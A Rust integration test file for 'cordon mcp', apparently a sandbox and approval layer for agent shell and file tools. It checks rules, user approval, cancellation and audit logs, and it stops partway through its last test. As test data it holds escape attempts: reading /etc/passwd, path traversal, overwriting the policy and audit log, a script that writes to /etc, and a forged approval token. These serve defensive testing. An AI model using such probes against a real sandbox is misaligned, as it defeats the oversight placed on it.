//! `cordon mcp` driven end to end by a real MCP client: the official Rust SDK's (`rmcp`)
//! client over the built binary's stdin/stdout, on protocol 2025-11-25.
//!
//! Covered: the tool list and its annotations; a command that runs; a rule's deny; an ask
//! answered through elicitation (once, for the session, declined, dismissed) and an ask to a
//! client without elicitation; cancelling a running command kills its whole tree (both Linux
//! backends); concurrent calls; the file tools inside and outside the roots; a write outside
//! the roots refused by the kernel; every decision in the audit log, with the client's name
//! and the MCP request id, and the log's chain intact.

mod common;
use common::pids_with;

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use rmcp::model::{
    CallToolRequest, CallToolRequestParams, CallToolResult, ClientCapabilities, ClientConfig,
    ClientRequest, ElicitRequestParams, ElicitResult, ElicitationAction, Implementation,
    JsonObject, ProtocolVersion,
};
use rmcp::service::{
    ClientLifecycleMode, ClientServiceExt, PeerRequestOptions, RequestContext, RoleClient,
    RunningService,
};
use rmcp::{ClientHandler, ErrorData as McpError};
use serde_json::{json, Value};

/// What the test client answers to an elicitation.
#[derive(Clone, Copy, Debug)]
enum Reply {
    Once,
    Session,
    DenyInForm,
    Decline,
    Cancel,
}

struct Client {
    name: &'static str,
    protocol: ProtocolVersion,
    /// `None`: the client does not declare elicitation.
    reply: Option<Reply>,
    asked: Arc<AtomicUsize>,
}

impl ClientHandler for Client {
    fn get_info(&self) -> ClientConfig {
        let caps = if self.reply.is_some() {
            ClientCapabilities::builder().enable_elicitation().build()
        } else {
            ClientCapabilities::default()
        };
        ClientConfig::new(caps, Implementation::new(self.name, "1.0"))
            .with_protocol_version(self.protocol.clone())
    }

    async fn create_elicitation(
        &self,
        request: ElicitRequestParams,
        _context: RequestContext<RoleClient>,
    ) -> Result<ElicitResult, McpError> {
        self.asked.fetch_add(1, Ordering::SeqCst);
        let ElicitRequestParams::FormElicitationParams {
            message,
            requested_schema,
            ..
        } = request
        else {
            return Err(McpError::invalid_params("form elicitation expected", None));
        };
        assert!(message.contains("cordon"), "{message}");
        let schema = serde_json::to_value(&requested_schema).unwrap();
        assert_eq!(schema["required"], json!(["decision"]), "{schema}");
        let pick = |v: &str| {
            Ok(ElicitResult::new(ElicitationAction::Accept).with_content(json!({"decision": v})))
        };
        match self.reply {
            Some(Reply::Once) => pick("once"),
            Some(Reply::Session) => pick("session"),
            Some(Reply::DenyInForm) => pick("deny"),
            Some(Reply::Decline) => Ok(ElicitResult::new(ElicitationAction::Decline)),
            Some(Reply::Cancel) | None => Ok(ElicitResult::new(ElicitationAction::Cancel)),
        }
    }
}

/// A workspace: `ws/` (the policy's only root, writable; the server's directory), the policy
/// `cordon.toml` beside it (outside the root, so every backend can keep it read-only), and the
/// audit log in a directory of its own outside the root.
struct Workspace {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    policy: PathBuf,
    log: PathBuf,
}

const RULES: &str = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "echo *"
action = "allow"
[[shell.rules]]
pattern = "sleep *"
action = "allow"
[[shell.rules]]
pattern = "touch /etc/*"
action = "allow"
[[shell.rules]]
pattern = "sh /**/probe.sh"
action = "allow"
[[shell.rules]]
pattern = "cat *"
action = "allow"
[[shell.rules]]
pattern = "wait"
action = "allow"
[[shell.rules]]
pattern = "exit *"
action = "allow"
[[shell.rules]]
pattern = "head *"
action = "allow"
[[shell.rules]]
pattern = "tr *"
action = "allow"
[[shell.rules]]
pattern = "curl *"
action = "allow"
[[shell.rules]]
pattern = "rm *"
action = "deny"
reason = "no deleting here"
"#;

fn workspace(extra: &str) -> Workspace {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let ws = base.join("ws");
    let logs = base.join("logs");
    std::fs::create_dir(&ws).unwrap();
    std::fs::create_dir(&logs).unwrap();
    let log = logs.join("audit.jsonl");
    let text = format!(
        "version = 1\n[sandbox.paths.ws]\nroot = \"ws\"\nmode = \"rw\"\n{extra}{RULES}\
         [approval]\naudit_log = {:?}\n",
        log.to_str().unwrap()
    );
    let policy = base.join("cordon.toml");
    std::fs::write(&policy, text).unwrap();
    common::trust(&base);
    Workspace {
        _dir: dir,
        ws,
        policy,
        log,
    }
}

type Session = RunningService<RoleClient, Client>;

/// Starts `cordon mcp` in `w.ws` (extra CLI args) and connects `client` to it with the
/// `initialize` handshake (protocol 2025-11-25).
async fn connect(w: &Workspace, args: &[&str], client: Client) -> (Session, tokio::process::Child) {
    connect_with(w, args, client, ClientLifecycleMode::Initialize).await
}

/// [`connect`] with a lifecycle of the client's choice.
async fn connect_with(
    w: &Workspace,
    args: &[&str],
    client: Client,
    lifecycle: ClientLifecycleMode,
) -> (Session, tokio::process::Child) {
    let std_cmd = common::command(&w.ws);
    let mut cmd = tokio::process::Command::from(std_cmd);
    cmd.arg("mcp")
        .arg("--policy")
        .arg(&w.policy)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .kill_on_drop(true);
    let mut child = cmd.spawn().expect("start cordon mcp");
    let stdout = child.stdout.take().unwrap();
    let stdin = child.stdin.take().unwrap();
    let session = client
        .serve_with_lifecycle((stdout, stdin), lifecycle)
        .await
        .expect("MCP handshake with cordon mcp");
    (session, child)
}

fn client(reply: Option<Reply>) -> (Client, Arc<AtomicUsize>) {
    let asked = Arc::new(AtomicUsize::new(0));
    (
        Client {
            name: "cordon-test-client",
            protocol: ProtocolVersion::V_2025_11_25,
            reply,
            asked: asked.clone(),
        },
        asked,
    )
}

fn args(v: Value) -> JsonObject {
    match v {
        Value::Object(m) => m,
        _ => panic!("arguments must be an object"),
    }
}

async fn call(s: &Session, tool: &'static str, a: Value) -> CallToolResult {
    s.peer()
        .call_tool(CallToolRequestParams::new(tool).with_arguments(args(a)))
        .await
        .unwrap_or_else(|e| panic!("{tool}: {e}"))
}

async fn run(s: &Session, command: &str) -> CallToolResult {
    call(s, "run_command", json!({ "command": command })).await
}

/// All the text content of a result.
fn text(r: &CallToolResult) -> String {
    r.content
        .iter()
        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
        .collect::<Vec<_>>()
        .join("\n")
}

fn is_error(r: &CallToolResult) -> bool {
    r.is_error == Some(true)
}

fn structured(r: &CallToolResult) -> &Value {
    r.structured_content
        .as_ref()
        .unwrap_or_else(|| panic!("no structured content: {}", text(r)))
}

fn records(log: &Path) -> Vec<Value> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lists_the_tools_with_honest_annotations() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    let tools = s.peer().list_all_tools().await.unwrap();
    let names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
    assert_eq!(
        names,
        [
            "run_command",
            "read_file",
            "write_file",
            "edit_file",
            "list_dir",
            "delete_file"
        ]
    );
    let ann = |n: &str| {
        let t = tools.iter().find(|t| t.name == n).unwrap();
        serde_json::to_value(t.annotations.as_ref().unwrap()).unwrap()
    };
    assert_eq!(ann("run_command")["readOnlyHint"], false);
    assert_eq!(ann("run_command")["destructiveHint"], true);
    assert_eq!(ann("run_command")["openWorldHint"], false);
    assert_eq!(ann("read_file")["readOnlyHint"], true);
    assert_eq!(ann("list_dir")["readOnlyHint"], true);
    assert_eq!(ann("delete_file")["destructiveHint"], true);
    assert_eq!(ann("edit_file")["idempotentHint"], false);
    let run = tools.iter().find(|t| t.name == "run_command").unwrap();
    assert_eq!(run.input_schema["required"], json!(["command"]));
    assert!(run.output_schema.is_some());
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn runs_an_allowed_command_and_refuses_a_denied_one() {
    let w = workspace("");
    let (c, asked) = client(Some(Reply::Once));
    let (s, _child) = connect(&w, &[], c).await;

    let r = run(&s, "echo hello; echo oops >&2").await;
    assert!(!is_error(&r), "{}", text(&r));
    let v = structured(&r);
    assert_eq!(v["stdout"], "hello\n");
    assert_eq!(v["stderr"], "oops\n");
    assert_eq!(v["exit_code"], 0);
    assert_eq!(v["truncated"], false);
    assert!(text(&r).contains("hello"), "{}", text(&r));

    let r = run(&s, "echo hi; exit 3").await;
    assert_eq!(structured(&r)["exit_code"], 3, "{}", text(&r));

    std::fs::write(w.ws.join("keep.txt"), "x").unwrap();
    let r = run(&s, "rm -f keep.txt").await;
    assert!(is_error(&r), "{}", text(&r));
    let t = text(&r);
    assert!(t.contains("no deleting here"), "{t}");
    assert!(t.contains("cordon.toml:"), "the rule is named: {t}");
    assert!(w.ws.join("keep.txt").exists());
    assert_eq!(asked.load(Ordering::SeqCst), 0, "nothing needed asking");
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_connection_the_command_opens_is_asked_through_elicitation() {
    assert!(
        Path::new("/usr/bin/curl").exists(),
        "this test runs curl in the sandbox: install it (apt-get install curl)"
    );
    let port = common::web_server();
    let w = workspace(
        "[sandbox]\nnetwork = \"proxy\"\n[network]\ndefault = \"ask\"\n\
         [network.hosts]\n\"web.test\" = \"127.0.0.1\"\n",
    );
    let curl = |path: &str| format!("curl -sSf http://web.test:{port}/{path}");
    // Approved once in the client's form: the request arrives.
    let (c, asked) = client(Some(Reply::Once));
    let (s, _child) = connect(&w, &[], c).await;
    let r = run(&s, &curl("once")).await;
    assert_eq!(structured(&r)["exit_code"], 0, "{}", text(&r));
    assert_eq!(structured(&r)["stdout"], "GET /once HTTP/1.1");
    assert_eq!(
        asked.load(Ordering::SeqCst),
        1,
        "the connection, not the command"
    );
    s.cancel().await.unwrap();
    // Declined: the proxy refuses it (curl -f: 22).
    let (c, asked) = client(Some(Reply::Decline));
    let (s, _child) = connect(&w, &[], c).await;
    let r = run(&s, &curl("declined")).await;
    assert_eq!(structured(&r)["exit_code"], 22, "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 1);
    s.cancel().await.unwrap();
    // A client that cannot show a form: nobody is asked, the connection is refused.
    let (c, asked) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    let r = run(&s, &curl("nobody")).await;
    assert_eq!(structured(&r)["exit_code"], 22, "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 0);
    s.cancel().await.unwrap();
    let decided: Vec<Value> = records(&w.log)
        .into_iter()
        .filter(|r| r["tool"] == "network" && r["by"]["kind"] != "connection")
        .collect();
    let by: Vec<(&str, &str)> = decided
        .iter()
        .map(|r| {
            (
                r["decision"].as_str().unwrap(),
                r["by"]["kind"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(by[0], ("allow", "user"), "{decided:?}");
    assert_eq!(by[1], ("deny", "user"), "{decided:?}");
    assert_eq!(by[2].0, "deny", "{decided:?}");
    assert_eq!(by.len(), 3, "{decided:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ask_is_an_elicitation_once_or_for_the_session() {
    let w = workspace("");
    let (c, asked) = client(Some(Reply::Once));
    let (s, _child) = connect(&w, &[], c).await;
    let r = run(&s, "touch made-once").await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(structured(&r)["exit_code"], 0);
    assert!(w.ws.join("made-once").exists());
    assert_eq!(asked.load(Ordering::SeqCst), 1);
    // Once means once: the same call asks again.
    let r = run(&s, "touch made-once").await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 2);
    s.cancel().await.unwrap();

    let (c, asked) = client(Some(Reply::Session));
    let (s, _child) = connect(&w, &[], c).await;
    for _ in 0..2 {
        let r = run(&s, "touch made-session").await;
        assert!(!is_error(&r), "{}", text(&r));
    }
    assert_eq!(
        asked.load(Ordering::SeqCst),
        1,
        "the session grant answers the second"
    );
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_ask_is_an_error_that_says_how_to_grant_it() {
    let w = workspace("");
    for reply in [
        Some(Reply::Decline),
        Some(Reply::Cancel),
        Some(Reply::DenyInForm),
        None,
    ] {
        let (c, asked) = client(reply);
        let (s, _child) = connect(&w, &[], c).await;
        let r = run(&s, "touch never-made").await;
        assert!(is_error(&r), "{reply:?}: {}", text(&r));
        let t = text(&r);
        assert!(t.contains("approval was needed"), "{reply:?}: {t}");
        assert!(t.contains("cordon exec"), "{reply:?}: {t}");
        assert!(!w.ws.join("never-made").exists(), "{reply:?}");
        let expected = usize::from(reply.is_some());
        assert_eq!(asked.load(Ordering::SeqCst), expected, "{reply:?}");
        s.cancel().await.unwrap();
        if reply.is_none() {
            // Nobody to ask: recorded as such, and the reason itself says how to approve.
            let r = records(&w.log);
            let last = r.last().unwrap();
            assert_eq!(last["decision"], "deny", "{last}");
            assert_eq!(last["by"]["kind"], "nobody-to-ask", "{last}");
            let reason = last["reason"].as_str().unwrap();
            assert!(reason.contains("cannot ask its user"), "{reason}");
            assert!(t.contains("a rule in"), "{t}");
        }
    }
}

/// Cancels a running `sleep` tree through `notifications/cancelled` on `backend`.
async fn cancel_kills_the_tree(backend: &str, n: u32) {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &["--backend", backend], c).await;
    let marker = format!("1000.{}{n}", std::process::id());
    let line =
        format!("sleep {marker} & sleep {marker} & (sleep {marker} &); sleep {marker}; wait");
    let request = ClientRequest::CallToolRequest(CallToolRequest::new(
        CallToolRequestParams::new("run_command").with_arguments(args(json!({ "command": line }))),
    ));
    let handle = s
        .peer()
        .send_cancellable_request(request, PeerRequestOptions::no_options())
        .await
        .unwrap();
    let until = Instant::now() + Duration::from_secs(60);
    while pids_with(&marker).len() < 4 {
        assert!(Instant::now() < until, "the sleeps never all started");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let pids = pids_with(&marker);
    handle.cancel(Some("test".into())).await.unwrap();
    let until = Instant::now() + Duration::from_secs(60);
    while pids
        .iter()
        .any(|p| Path::new(&format!("/proc/{p}")).exists())
    {
        assert!(
            Instant::now() < until,
            "{backend}: the sleeps outlived the cancel: {pids:?}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // The cancel is in the log, after the call's allow: a run the client cancelled was
    // recorded only as allowed, as if it had run its course.
    let until = Instant::now() + Duration::from_secs(60);
    let cancelled = loop {
        let recs = records(&w.log);
        if let Some(r) = recs.iter().find(|r| r["kind"] == "refusal") {
            let allow = recs
                .iter()
                .find(|d| d["decision"] == "allow" && d["tool"] == "shell")
                .unwrap_or_else(|| panic!("{recs:#?}"));
            assert_eq!(r["request"], allow["request"], "{recs:#?}");
            break r.clone();
        }
        assert!(
            Instant::now() < until,
            "{backend}: the cancel was never recorded: {recs:#?}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert_eq!(cancelled["by"]["tag"], "cancelled", "{cancelled:#}");
    assert!(
        cancelled["reason"]
            .as_str()
            .unwrap()
            .contains("notifications/cancelled"),
        "{cancelled:#}"
    );
    // The server goes on serving.
    let r = run(&s, "echo still here").await;
    assert_eq!(structured(&r)["stdout"], "still here\n", "{}", text(&r));
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancelling_kills_the_command_tree_on_landlock() {
    cancel_kills_the_tree("landlock", 1).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancelling_kills_the_command_tree_on_bwrap() {
    cancel_kills_the_tree("bwrap", 2).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_goes_away_ends_the_server_and_its_commands() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, mut child) = connect(&w, &[], c).await;
    let marker = format!("1000.{}3", std::process::id());
    let line = format!("sleep {marker} & sleep {marker}; wait");
    let request = ClientRequest::CallToolRequest(CallToolRequest::new(
        CallToolRequestParams::new("run_command").with_arguments(args(json!({ "command": line }))),
    ));
    let _handle = s
        .peer()
        .send_cancellable_request(request, PeerRequestOptions::no_options())
        .await
        .unwrap();
    let until = Instant::now() + Duration::from_secs(60);
    while pids_with(&marker).len() < 2 {
        assert!(Instant::now() < until, "the sleeps never started");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let pids = pids_with(&marker);
    // Closing the transport closes the server's stdin.
    s.cancel().await.unwrap();
    let status = tokio::time::timeout(Duration::from_secs(60), child.wait())
        .await
        .expect("cordon mcp exits when its client goes away")
        .unwrap();
    assert!(status.success(), "{status}");
    let until = Instant::now() + Duration::from_secs(60);
    while pids
        .iter()
        .any(|p| Path::new(&format!("/proc/{p}")).exists())
    {
        assert!(
            Instant::now() < until,
            "the sleeps outlived the server: {pids:?}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_calls_are_all_answered() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    let peer = s.peer().clone();
    let calls = (0..4).map(|n| {
        let peer = peer.clone();
        tokio::spawn(async move {
            let a = args(json!({ "command": format!("sleep 1; echo {n}") }));
            let r = peer
                .call_tool(CallToolRequestParams::new("run_command").with_arguments(a))
                .await
                .unwrap();
            (n, r)
        })
    });
    for call in calls.collect::<Vec<_>>() {
        let (n, r) = call.await.unwrap();
        assert_eq!(structured(&r)["stdout"], format!("{n}\n"), "{}", text(&r));
    }
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn output_past_the_limit_is_truncated_with_a_note() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    // 4 MiB on stdout: kept up to the limit, the rest drained (the command still ends).
    let r = run(&s, "head -c 4194304 /dev/zero | tr '\\0' a; echo done >&2").await;
    let v = structured(&r);
    assert_eq!(v["truncated"], true, "{v:.200}");
    assert_eq!(v["exit_code"], 0);
    assert_eq!(v["stderr"], "done\n");
    let out = v["stdout"].as_str().unwrap();
    assert!(
        out.len() < 4194304 && out.bytes().all(|b| b == b'a'),
        "{}",
        out.len()
    );
    assert!(text(&r).contains("output truncated"), "{:.200}", text(&r));
    s.cancel().await.unwrap();
}

/// Round 10 of issue 21: `list_dir` gave a name that is not UTF-8 lossily: `a\xff` and
/// `a\xfe` were both `a\u{fffd}`, two entries of one name, neither of which the client could
/// tell apart or name back. Each byte that is not UTF-8 is escaped as `\xHH`, and the entry
/// says it is no UTF-8 name (a UTF-8 name spelled `a\xff` is not flagged).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn list_dir_escapes_names_that_are_not_utf8_each_its_own() {
    use std::os::unix::ffi::OsStrExt;
    let w = workspace("");
    let dir = w.ws.join("odd");
    std::fs::create_dir(&dir).unwrap();
    for name in [&b"a\xff"[..], b"a\xfe", b"a\\xff"] {
        std::fs::write(dir.join(std::ffi::OsStr::from_bytes(name)), "x").unwrap();
    }
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    let r = call(&s, "list_dir", json!({"path": "ws/odd"})).await;
    assert!(!is_error(&r), "{}", text(&r));
    let entries = structured(&r)["entries"].as_array().unwrap().clone();
    let shown: Vec<(String, bool)> = entries
        .iter()
        .map(|e| {
            (
                e["name"].as_str().unwrap().to_string(),
                e["not_utf8"].as_bool().unwrap_or(false),
            )
        })
        .collect();
    assert_eq!(
        shown,
        vec![
            ("a\\xfe".to_string(), true),
            ("a\\xff".to_string(), false),
            ("a\\xff".to_string(), true),
        ],
        "{entries:#?}"
    );
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn file_tools_work_inside_the_roots_and_refuse_outside() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    let r = call(
        &s,
        "write_file",
        json!({"path": "ws/a.txt", "content": "one\n"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = call(
        &s,
        "edit_file",
        json!({"path": "ws/a.txt", "old": "one", "new": "two"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = call(&s, "read_file", json!({"path": "ws/a.txt"})).await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(structured(&r)["content"], "two\n");
    let r = call(&s, "list_dir", json!({"path": "ws"})).await;
    assert!(text(&r).contains("a.txt"), "{}", text(&r));
    let r = call(&s, "delete_file", json!({"path": "ws/a.txt"})).await;
    assert!(!is_error(&r), "{}", text(&r));
    assert!(!w.ws.join("a.txt").exists());

    for (tool, a) in [
        ("read_file", json!({"path": "/etc/passwd"})),
        (
            "write_file",
            json!({"path": "/tmp/cordon-mcp-outside", "content": "x"}),
        ),
        (
            "write_file",
            json!({"path": "ws/../escaped", "content": "x"}),
        ),
        ("list_dir", json!({"path": "/"})),
        ("delete_file", json!({"path": "/etc/hostname"})),
        // cordon's own files stay out of the agent's reach.
        (
            "write_file",
            json!({"path": w.policy, "content": "version = 1\n"}),
        ),
        ("write_file", json!({"path": w.log, "content": ""})),
    ] {
        let r = call(&s, tool, a.clone()).await;
        assert!(is_error(&r), "{tool} {a}: {}", text(&r));
    }
    assert!(!Path::new("/tmp/cordon-mcp-outside").exists());
    assert!(std::fs::read_to_string(&w.policy)
        .unwrap()
        .contains("no deleting here"));
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_kernel_refuses_a_write_outside_the_roots() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, _child) = connect(&w, &[], c).await;
    let target = format!("/etc/cordon-mcp-{}", std::process::id());
    // Inside a script: the analysis sees `touch /etc/…` on the line and asks; what it cannot
    // see (a script the workspace holds) is what the kernel must stop.
    let probe = w.ws.join("probe.sh");
    std::fs::write(&probe, format!("touch {target}\n")).unwrap();
    let r = run(&s, &format!("sh {}", probe.display())).await;
    let v = structured(&r);
    assert_ne!(v["exit_code"], 0, "{}", text(&r));
    let err = v["stderr"].as_str().unwrap();
    assert!(
        err.contains("Read-only file system") || err.contains("Permission denied"),
        "{err}"
    );
    assert!(!Path::new(&target).exists());
    s.cancel().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_decision_is_audited_with_the_client_and_request_id() {
    let w = workspace("");
    let (c, _) = client(Some(Reply::Decline));
    let (s, _child) = connect(&w, &[], c).await;
    run(&s, "echo audited").await;
    run(&s, "rm -rf nothing").await;
    run(&s, "touch declined").await;
    call(
        &s,
        "write_file",
        json!({"path": "ws/b.txt", "content": "b"}),
    )
    .await;
    s.cancel().await.unwrap();

    let recs = records(&w.log);
    assert_eq!(recs.len(), 4, "{recs:#?}");
    for r in &recs {
        assert_eq!(r["client"], "cordon-test-client", "{r}");
        assert!(r["client_request"].is_string(), "{r}");
    }
    let ids: std::collections::HashSet<_> = recs
        .iter()
        .map(|r| r["client_request"].to_string())
        .collect();
    assert_eq!(ids.len(), 4, "one request id per call: {recs:#?}");
    let o = common::cordon(&w.ws, &["audit", "verify", w.log.to_str().unwrap()]);
    assert!(o.status.success(), "{}", common::stderr(&o));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_broken_policy_stops_the_server_at_start() {
    let w = workspace("");
    std::fs::write(w.ws.join("bad.toml"), "version = 1\nnetwrok = 1\n").unwrap();
    common::trust_file(&w.ws, "bad.toml");
    let o = common::command(&w.ws)
        .args(["mcp", "--policy", "bad.toml"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(o.stdout.is_empty(), "nothing but protocol on stdout");
    let err = common::stderr(&o);
    assert!(
        err.starts_with("cordon: ") && err.contains("netwrok"),
        "{err}"
    );
}

/// A client of protocol 2026-07-28: no `initialize`, and no server-to-client requests.
fn stateless(reply: Option<Reply>) -> (Client, Arc<AtomicUsize>, ClientLifecycleMode) {
    let (mut c, asked) = client(reply);
    c.protocol = ProtocolVersion::V_2026_07_28;
    let lifecycle = ClientLifecycleMode::Discover {
        preferred_versions: vec![ProtocolVersion::V_2026_07_28],
    };
    (c, asked, lifecycle)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_2026_07_28_an_ask_is_an_input_required_round_trip() {
    let w = workspace("");
    let (c, asked, lifecycle) = stateless(Some(Reply::Once));
    let (s, _child) = connect_with(&w, &[], c, lifecycle).await;
    // The SDK's client answers the input request with its elicitation handler and retries.
    let a = args(json!({"command": "touch made-by-retry"}));
    let r = s
        .call_tool(CallToolRequestParams::new("run_command").with_arguments(a.clone()))
        .await
        .unwrap();
    assert!(!is_error(&r), "{}", text(&r));
    assert!(w.ws.join("made-by-retry").exists());
    assert_eq!(asked.load(Ordering::SeqCst), 1);
    // An allowed call needs no round trip.
    let r = run(&s, "echo direct").await;
    assert_eq!(structured(&r)["stdout"], "direct\n", "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 1);

    // A forged or replayed requestState approves nothing.
    let forged = CallToolRequestParams::new("run_command")
        .with_arguments(args(json!({"command": "touch forged"})))
        .with_request_state("0123456789abcdef0123456789abcdef")
        .with_input_responses(
            [(
                "approval".to_string(),
                json!({"action": "accept", "content": {"decision": "once"}}),
            )]
            .into_iter()
            .collect(),
        );
    match s.call_tool_once(forged).await.unwrap() {
        rmcp::model::CallToolResponse::Complete(r) => {
            assert!(is_error(&r), "{}", text(&r));
            assert!(text(&r).contains("requestState"), "{}", text(&r));
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert!(!w.ws.join("forged").exists());
    s.cancel().await.unwrap();

    let (c, asked, lifecycle) = stateless(Some(Reply::Decline));
    let (s, _child) = connect_with(&w, &[], c, lifecycle).await;
    let r = s
        .call_tool(
            CallToolRequestParams::new("run_command")
                .with_arguments(args(json!({"command": "touch declined-by-retry"}))),
        )
        .await
        .unwrap();
    assert!(is_error(&r), "{}", text(&r));
    assert!(text(&r).contains("approval was needed"), "{}", text(&r));
    assert!(!w.ws.join("declined-by-retry").exists());
    assert_eq!(asked.load(Ordering::SeqCst), 1);
    s.cancel().await.unwrap();
    let recs = records(&w.log);
    assert!(
        recs.iter().all(|r| r["client"] == "cordon-test-client"),
        "{recs:#?}"
    );
}

/// A raw JSON-RPC client over `cordon mcp`'s pipes, for what an SDK client never sends.
struct Raw {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    answers: std::sync::mpsc::Receiver<Value>,
}

impl Raw {
    fn start(w: &Workspace) -> Raw {
        Raw::start_with(w, json!({}))
    }

    /// [`Raw::start`] declaring `capabilities`.
    fn start_with(w: &Workspace, capabilities: Value) -> Raw {
        let mut child = common::command(&w.ws)
            .arg("mcp")
            .arg("--policy")
            .arg(&w.policy)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start cordon mcp");
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, answers) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            use std::io::BufRead;
            for line in std::io::BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let v: Value = serde_json::from_str(&line).unwrap_or_else(|e| {
                    panic!("cordon wrote a line that is not JSON ({e}): {line}")
                });
                if tx.send(v).is_err() {
                    break;
                }
            }
        });
        let mut raw = Raw {
            child,
            stdin,
            answers,
        };
        raw.send(
            &json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": capabilities,
            "clientInfo": {"name": "raw", "version": "1"}}}),
        );
        assert!(raw.answer().get("result").is_some());
        raw.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        raw
    }

    fn send_bytes(&mut self, bytes: &[u8]) {
        use std::io::Write;
        self.stdin.write_all(bytes).unwrap();
        self.stdin.flush().unwrap();
    }

    fn send(&mut self, v: &Value) {
        let mut line = v.to_string().into_bytes();
        line.push(b'\n');
        self.send_bytes(&line);
    }

    /// The next answer (bounded: a lost request must fail the test, not hang it).
    fn answer(&self) -> Value {
        self.answers
            .recv_timeout(Duration::from_secs(120))
            .expect("cordon mcp did not answer")
    }
}

impl Drop for Raw {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A line that is not JSON (here: a request cut at a random point) and a line longer than the
/// limit each get a JSON-RPC error, with the request's id when its start names one; the
/// server keeps serving.
#[test]
fn unparsable_and_over_long_requests_are_answered_with_an_error() {
    let w = workspace("");
    let mut raw = Raw::start(&w);
    let request = json!({"jsonrpc": "2.0", "id": 41, "method": "tools/call", "params": {
        "name": "run_command", "arguments": {"command": "echo still-serving"}}})
    .to_string();
    let mut seed = u64::from(std::process::id()) | 1;
    for _ in 0..20 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        // Cut anywhere after the id (so it can be read) and before the end.
        let cut = 24 + (seed as usize) % (request.len() - 25);
        let mut line = request.as_bytes()[..cut].to_vec();
        line.push(b'\n');
        raw.send_bytes(&line);
        let a = raw.answer();
        assert_eq!(a["error"]["code"], -32700, "{a}");
        assert_eq!(a["id"], 41, "the cut request's id: {a}");
    }
    raw.send_bytes(b"{{{ not json at all\n");
    let a = raw.answer();
    assert_eq!(a["error"]["code"], -32700, "{a}");
    assert_eq!(a["id"], Value::Null, "{a}");
    // 17 MiB in one line, the id first.
    let mut long = br#"{"jsonrpc":"2.0","id":"big","method":"tools/call","params":{"name":"write_file","arguments":{"path":"x","content":""#.to_vec();
    long.resize(long.len() + (17 << 20), b'a');
    long.extend_from_slice(b"\"}}}\n");
    raw.send_bytes(&long);
    let a = raw.answer();
